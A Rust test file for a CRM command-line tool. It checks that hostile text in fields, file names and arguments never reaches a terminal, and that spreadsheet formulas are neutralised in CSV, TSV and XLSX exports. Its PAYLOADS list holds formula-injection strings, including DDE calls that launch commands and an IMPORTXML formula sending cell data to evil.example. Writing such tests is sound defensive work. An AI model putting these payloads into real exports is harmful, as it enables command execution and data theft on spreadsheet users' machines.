//! Text that would steer a terminal or run in a spreadsheet, in every field, header, file name and argument.

use std::fs::File;
use std::io::Read;

use crmkit::base::printable::steers;
use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use crate::tty;
use crate::world::World;

/// Clears the screen, sets a title, rings, colours, turns the reading direction, forges a line: none of it may act.
const EVIL: &str = "Eve\u{1b}[2J\u{1b}]0;pwned\u{7}\u{1b}[31;5m\u{1b}P1\u{9b}5m\u{202e}gpj\u{2066}\u{2028}\u{85}\u{7f}\u{0008}x";

/// What a run that owns a terminal shows on it; `keys` are typed once it waits.
fn on_terminal(world: &World, args: &[&str], keys: &str) -> String {
    let answers: Vec<_> = (!keys.is_empty()).then_some(("", keys)).into_iter().collect();
    tty::run(world, args, &answers).bytes
}

/// What in the shown text steers the terminal without being crmkit's own: cursor and line control of questions and progress.
fn foreign(shown: &str) -> Option<String> {
    let mut rest = shown.replace("\r\n", "\n").replace('\r', "\n");
    for own in [
        "\u{1b}[?25h",
        "\u{1b}[?25l",
        "\u{1b}[2K",
        "\u{1b}[K",
        "\u{1b}[0K",
        "\u{1b}[1A",
        "\u{1b}[1B",
        "\u{1b}[A",
        "\u{1b}[0m",
        "\u{1b}[J",
        "\u{1b}[0J",
    ] {
        rest = rest.replace(own, "");
    }
    // Cursor movements by any number of lines.
    while let Some(at) = rest.find("\u{1b}[") {
        let digits = rest[at + 2..].chars().take_while(char::is_ascii_digit).count();
        if !rest[at + 2 + digits..].starts_with(['A', 'B', 'G', 'D', 'C']) {
            break;
        }
        rest.replace_range(at..at + 3 + digits, "");
    }
    rest.chars().find(|c| !['\n', '\t'].contains(c) && steers(*c)).map(|c| format!("{c:?} in {rest:?}"))
}

#[test]
fn what_steers_a_terminal_is_seen() {
    for text in ["a\u{1b}[2Jb", "\u{1b}]0;x\u{7}", "\u{9b}5m", "\u{202e}", "\u{8}", "\u{1b}[31m"] {
        assert!(foreign(text).is_some(), "{text:?}");
    }
    assert_eq!(foreign("\u{1b}[?25l\u{1b}[12A\u{1b}[2Ka\tb\r\n"), None);
}

/// A shop in which every text is hostile, and the file its customers came from.
fn hostile_shop() -> (World, String) {
    let world = World::store();
    let quoted = format!("\"{EVIL}\"");
    let fields = ["name", "company", "email", "phone", "address", "city", "region", "notes", "tags", "owner", "industry", "source"];
    let cells = vec![quoted.as_str(); fields.len() + 1].join(",");
    let file = format!("cust{EVIL}omers.csv").replace('/', "");
    world.write(&file, format!("code,{},own{EVIL}\nE{EVIL}1,{cells}\nE2,{cells}\nbad\n", fields.join(",")));
    world.ends(&["import", "customers", &file], 3);
    let code = world.sql("SELECT code FROM customer ORDER BY id")[0].clone();
    let run = |args: &[&str]| world.ok(args);
    run(&[
        "order",
        "add",
        &code,
        "--code",
        &format!("O{EVIL}"),
        "--channel",
        EVIL,
        "--notes",
        EVIL,
        "--line",
        &format!("P\u{1b}[2J @5 {EVIL}"),
    ]);
    run(&[
        "log",
        &code,
        "--channel",
        "phone",
        "--text",
        EVIL,
        "--subject",
        EVIL,
        "--outcome",
        EVIL,
        "--staff",
        EVIL,
        "--set",
        &format!("k{EVIL}=v{EVIL}"),
    ]);
    run(&["complaint", "open", &code, "--type", "price", "--text", EVIL, "--subject", EVIL, "--assignee", EVIL]);
    run(&["customer", "contact", &code, "add", EVIL, "--role", EVIL]);
    (world, file)
}

#[test]
fn nothing_hostile_reaches_a_terminal() {
    let (world, file) = hostile_shop();
    let code = world.sql("SELECT code FROM customer ORDER BY id")[0].clone();
    let query = format!("SELECT name AS \"{EVIL}\" FROM customers");
    let wrong = format!("SELECT \"{EVIL}\" FROM customers");
    for args in [
        &["customer", "show", &code][..],
        &["customer", "list"],
        &["customer", "list", "-f", "csv"],
        &["customer", "list", "-f", "tsv"],
        &["customer", "list", "-f", "json"],
        &["customer", "list", "-f", "jsonl"],
        &["customer", "list", "-f", "markdown"],
        &["customer", "list", "-f", "html"],
        &["customer", "find", "Eve"],
        &["order", "list", &code],
        &["complaint", "list"],
        &["history", &code],
        &["explain", &code],
        &["ops"],
        &["ops", "show", "2"],
        &["report", "overview"],
        &["report", "rfm", "--table", "customers"],
        &["report", "quality"],
        &["check", "--strict"],
        &["dupes"],
        &["export", "customers"],
        &["export", "interactions"],
        &["sql", &query],
        &["sql", &wrong],
        &["customer", "list", "--where", &wrong],
        &["import", "customers", &file],
        &["import", "customers", &file, "--explain"],
        &["import", "customers", &file, "--map", &format!("name={EVIL}")],
        &["import", "customers", EVIL],
        &["--db", EVIL, "ops"],
        &["customer", "show", EVIL],
        &["report", EVIL],
        &[EVIL],
        &[&format!("--{EVIL}")],
        &["config", "set", "currency", EVIL],
        &["report", "overview", "--as-of", EVIL],
        &["customer", "list", "-o", &format!("x.{EVIL}")],
        &["customer", "list", "-f", EVIL],
        &["import", "customers", &file, "--date-format", EVIL],
        &["report", "rfm", "--table", EVIL],
        &["customer", "edit", &code, "--notes", "clean"],
        &["undo"],
    ] {
        let shown = on_terminal(&world, args, "\u{1b}\u{1b}\u{3}");
        assert_eq!(foreign(&shown), None, "{args:?}");
        assert!(!shown.is_empty(), "{args:?}");
    }
}

#[test]
fn questions_show_nothing_hostile() {
    let (world, _) = hostile_shop();
    for (args, keys) in [(&["customer", "show", "Eve"][..], "\u{1b}"), (&["merge", "E2", "Eve"], "\u{1b}"), (&["log", "Eve"], "\u{1b}")] {
        let shown = on_terminal(&world, args, keys);
        assert_eq!(foreign(&shown), None, "{args:?}");
        assert!(shown.contains("Eve"), "{args:?}: {shown:?}");
    }
    assert!(on_terminal(&world, &["export", "customers", "-f", "xlsx"], "").contains("cannot be shown on a terminal"));
}

/// What a spreadsheet might run, or take for more than words.
const PAYLOADS: [&str; 34] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=\"a\",\"b\"",
    "=A1;B1",
    "'=1+1",
    "''=1+1",
    "'@x",
    "=",
    "+",
    "-",
    "@",
    "-A1",
    "+A1",
    "=\u{1b}[2J",
    "=王芳",
    "=1\n=2",
    "-1-1",
    "+-1",
    "=-1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "https://evil.example/?q==1",
];

/// What the cell would be to a spreadsheet that reads it from CSV.
fn runs(cell: &str) -> bool {
    let number = |text: &str| text.parse::<f64>().is_ok();
    cell.starts_with(['=', '@', '\t', '\r', '\n']) || (cell.starts_with(['+', '-']) && !number(cell) && !number(&cell[1..]))
}

/// Puts texts into the notes of customers, exports them, imports the export elsewhere, and gives what is in the notes there.
fn there_and_back(texts: &[String], format: &str, options: &[&str]) -> (World, Vec<String>) {
    let (from, to) = (World::store(), World::store());
    let line: Vec<String> =
        texts.iter().enumerate().map(|(i, text)| format!("C{i},\"n{i}\",\"{}\"\n", text.replace('"', "\"\""))).collect();
    let out = from.import("customers", format!("code,name,notes\n{}", line.concat()), &["--raw"], 0);
    assert!(out.stderr.contains(&format!("{} created", texts.len())), "{}", out.stderr);
    let file = from.path(&format!("out.{format}")).display().to_string();
    let args: Vec<&str> = ["export", "customers", "-o", &file].into_iter().chain(options.iter().copied()).collect();
    from.ok(&args);
    let args: Vec<&str> = ["import", "customers", &file].into_iter().chain(options.iter().copied()).collect();
    to.ok(&args);
    let notes = |world: &World| world.sql("SELECT hex(notes) FROM customer ORDER BY id");
    assert_eq!(notes(&to), notes(&from), "{format} {options:?}");
    (from, notes(&to))
}

#[test]
fn formulas_are_neutralised_and_come_back_exactly() {
    let texts: Vec<String> = PAYLOADS.iter().map(ToString::to_string).collect();
    for format in ["csv", "tsv"] {
        let (world, _) = there_and_back(&texts, format, &[]);
        let bytes = world.read(&format!("out.{format}"));
        let delimiter = if format == "csv" { b',' } else { b'\t' };
        let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).from_reader(bytes.as_bytes());
        let mut seen = 0;
        for record in reader.records() {
            for cell in &record.expect("a record") {
                assert!(!runs(cell), "{format}: {cell:?}");
                seen += usize::from(!cell.is_empty());
            }
        }
        assert!(seen >= 3 * PAYLOADS.len(), "{seen}");
    }
    there_and_back(&texts, "csv", &["--raw"]);
    there_and_back(&texts, "xlsx", &[]);
    // crmkit's own words are in the workbook, and nothing that a spreadsheet would run or follow.
    let (world, _) = there_and_back(&texts, "xlsx", &[]);
    let file = File::open(world.path("out.xlsx")).expect("there");
    let mut book = zip::ZipArchive::new(file).expect("a workbook");
    for i in 0..book.len() {
        let mut text = String::new();
        let mut part = book.by_index(i).expect("a part");
        let name = part.name().expect("a name").into_owned();
        part.read_to_string(&mut text).expect("text");
        assert!(!name.contains("externalLink") && !text.contains("<f>") && !text.contains("<f ") && !text.contains("<hyperlink"), "{name}");
    }
}

#[test]
fn any_text_comes_back_exactly_from_every_format() {
    let mut runner = TestRunner::new(Config { cases: 6, ..Config::default() });
    // Blanks around a value and control characters are no part of what the importer keeps.
    let text = prop_oneof!["['=+@0-9a .()-]{0,8}[a-z]", "[=+@'-][^\\p{C}\\p{Z}]{1,12}", "'{1,3}[=@+-][0-9a-z\"',;]{0,5}"];
    let usable = |t: &String| !t.is_empty() && t.trim() == t;
    let texts = prop::collection::vec(text.prop_filter("no blanks around", usable), 30);
    runner
        .run(&texts, |texts| {
            for format in ["csv", "tsv", "xlsx"] {
                there_and_back(&texts, format, &[]);
            }
            Ok(())
        })
        .expect("exact");
}
